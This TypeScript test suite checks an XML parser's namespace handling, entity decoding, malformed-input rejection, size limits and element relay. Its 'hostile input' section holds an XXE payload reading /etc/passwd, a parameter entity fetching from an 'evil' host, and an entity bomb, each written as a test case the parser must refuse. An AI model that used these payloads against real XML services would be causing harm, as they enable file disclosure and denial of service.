import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { XMLParser } from 'fast-xml-parser';
import { parseXml, relayElement, XmlError, NS, type XmlElement } from '@xcai/shared';
import { SAMPLES } from '../support/fixtures';

function codeOf(f: () => unknown): string | undefined {
  try {
    f();
    return undefined;
  } catch (e) {
    return e instanceof XmlError ? e.code : `other: ${(e as Error).message}`;
  }
}

describe('XML parser: namespaces and structure', () => {
  it('resolves prefixes, default namespaces and undeclaration', () => {
    const doc = parseXml(
      `<a:root xmlns:a="urn:a" xmlns="urn:d"><child x="1" a:y="2"/><inner xmlns=""><plain/></inner><a:x xmlns:a="urn:other"/></a:root>`,
    );
    const r = doc.root;
    expect([r.ns, r.local]).toEqual(['urn:a', 'root']);
    const [child, inner, x] = r.children;
    expect([child.ns, child.local, child.attr('x'), child.attr('y', 'urn:a')]).toEqual([
      'urn:d',
      'child',
      '1',
      '2',
    ]);
    expect(inner.ns).toBe('');
    expect(inner.children[0].ns).toBe('');
    expect(x.ns).toBe('urn:other');
  });

  it('decodes predefined entities, character references and CDATA', () => {
    const doc = parseXml(`<r a="x&amp;y&#x3042;">1 &lt; 2 &#12354;<![CDATA[<raw & text>]]></r>`);
    expect(doc.root.attr('a')).toBe('x&yあ');
    expect(doc.root.text).toBe('1 < 2 あ<raw & text>');
  });

  it('keeps Japanese UTF-8 text intact', () => {
    const doc = parseXml(Buffer.from('<n>山田^太郎=やまだ^たろう</n>', 'utf8'));
    expect(doc.root.text).toBe('山田^太郎=やまだ^たろう');
  });

  it.each([
    ['mismatched end tag', '<a><b></a></b>', 'malformed'],
    ['undeclared prefix', '<x:a/>', 'malformed'],
    ['duplicate attribute', '<a b="1" b="2"/>', 'malformed'],
    ['duplicate attribute via prefixes', '<a xmlns:p="u" xmlns:q="u" p:b="1" q:b="2"/>', 'malformed'],
    ['two roots', '<a/><b/>', 'malformed'],
    ['text after root', '<a/>junk', 'malformed'],
    ['unterminated', '<a><b>', 'malformed'],
    ['unquoted attribute', '<a b=1/>', 'malformed'],
    ['< in attribute', '<a b="<"/>', 'malformed'],
    ['undefined entity', '<a>&nbsp;</a>', 'malformed'],
    ['bare ampersand', '<a>fish & chips</a>', 'malformed'],
    ['bad char reference', '<a>&#0;</a>', 'malformed'],
    ['empty document', '', 'malformed'],
  ])('rejects %s', (_name, xml, code) => {
    expect(codeOf(() => parseXml(xml))).toBe(code);
  });
});

describe('XML parser: hostile input', () => {
  it('refuses any DTD: XXE, parameter entities, entity bombs', () => {
    const xxe = `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>`;
    const param = `<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil/x.dtd"> %p;]><r/>`;
    const lol = `<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]><lolz>&lol2;</lolz>`;
    const inner = `<r><!DOCTYPE x></r>`;
    for (const x of [xxe, param, lol, inner]) expect(codeOf(() => parseXml(x))).toBe('dtd-forbidden');
  });

  it('bounds depth, size, attribute and text length, element count', () => {
    expect(codeOf(() => parseXml('<a>'.repeat(100) + '</a>'.repeat(100), { maxDepth: 64 }))).toBe('too-deep');
    expect(codeOf(() => parseXml('<a>'.repeat(200_000) + '</a>'.repeat(200_000)))).toBe('too-deep');
    expect(codeOf(() => parseXml(`<a>${'x'.repeat(2000)}</a>`, { maxBytes: 1000 }))).toBe('too-large');
    expect(codeOf(() => parseXml(`<a b="${'x'.repeat(5000)}"/>`, { maxAttributeLength: 4096 }))).toBe(
      'attribute-too-long',
    );
    expect(codeOf(() => parseXml(`<a>${'x'.repeat(5000)}</a>`, { maxTextLength: 4096 }))).toBe(
      'text-too-long',
    );
    expect(codeOf(() => parseXml(`<a>${'<b/>'.repeat(1000)}</a>`, { maxElements: 500 }))).toBe(
      'too-many-elements',
    );
    const many = Array.from({ length: 100 }, (_, i) => `a${i}="1"`).join(' ');
    expect(codeOf(() => parseXml(`<a ${many}/>`))).toBe('too-many-attributes');
  });

  it('refuses invalid UTF-8 and non-UTF-8 encodings', () => {
    expect(codeOf(() => parseXml(Buffer.from([0x3c, 0x61, 0x3e, 0xff, 0xfe, 0x3c, 0x2f, 0x61, 0x3e])))).toBe(
      'bad-encoding',
    );
    expect(codeOf(() => parseXml('<?xml version="1.0" encoding="ISO-8859-1"?><a/>'))).toBe('bad-encoding');
    expect(codeOf(() => parseXml(Buffer.from('\ufeff<a/>', 'utf16le')))).toBe('bad-encoding');
  });
});

describe('XML relay (byte-exact copy of an element into another document)', () => {
  it('redeclares in-scope namespaces and copies the content unchanged', () => {
    const src = `<s:Env xmlns:s="urn:s" xmlns:rim="${NS.rim}" xmlns="urn:dflt"><s:Body><rim:List><rim:Obj id="1" home="old">  <rim:Name>山田 &amp; co</rim:Name><x/></rim:Obj></rim:List></s:Body></s:Env>`;
    const doc = parseXml(src);
    const obj = doc.root.descendants(NS.rim, 'Obj')[0];
    const out = relayElement(doc, obj, { setAttributes: { home: 'urn:oid:1.2' } });
    expect(out.endsWith(`>  <rim:Name>山田 &amp; co</rim:Name><x/></rim:Obj>`)).toBe(true);
    const again = parseXml(`<wrap xmlns="urn:other">${out}</wrap>`).root.children[0];
    expect([again.ns, again.local, again.attr('id'), again.attr('home')]).toEqual([
      NS.rim,
      'Obj',
      '1',
      'urn:oid:1.2',
    ]);
    expect(again.children[1].ns).toBe('urn:dflt');
    expect(again.child(NS.rim, 'Name')?.text).toBe('山田 & co');
  });

  it('undeclares the default namespace when the element had none', () => {
    const doc = parseXml(`<p:a xmlns:p="urn:p"><b/></p:a>`);
    const out = relayElement(doc, doc.root);
    const again = parseXml(`<w xmlns="urn:w">${out}</w>`).root.children[0];
    expect(again.children[0].ns).toBe('');
  });
});

/** fast-xml-parser as an independent oracle: same element names and text on real samples. */
describe('differential check against fast-xml-parser on the public samples', () => {
  const files = readdirSync(SAMPLES, { recursive: true })
    .map(String)
    .filter((f) => f.endsWith('.xml'));

  function ours(el: XmlElement): unknown[] {
    return [el.qname, el.children.map(ours)];
  }
  function theirs(node: Record<string, unknown>[]): unknown[] {
    const out: unknown[] = [];
    for (const n of node) {
      const name = Object.keys(n).find(
        (k) => k !== ':@' && k !== '#text' && k !== '#comment' && !k.startsWith('?'),
      );
      if (!name) continue;
      out.push([name, theirs(n[name] as Record<string, unknown>[])]);
    }
    return out;
  }

  it.each(files)('%s', (f) => {
    const text = readFileSync(join(SAMPLES, f), 'utf8');
    const doc = parseXml(text, { maxBytes: 64 * 1024 * 1024, maxTextLength: 64 * 1024 * 1024 });
    const fxp = new XMLParser({
      preserveOrder: true,
      ignoreAttributes: false,
      processEntities: false,
      commentPropName: '#comment',
    });
    expect([ours(doc.root)]).toEqual(theirs(fxp.parse(text) as Record<string, unknown>[]));
  });
});
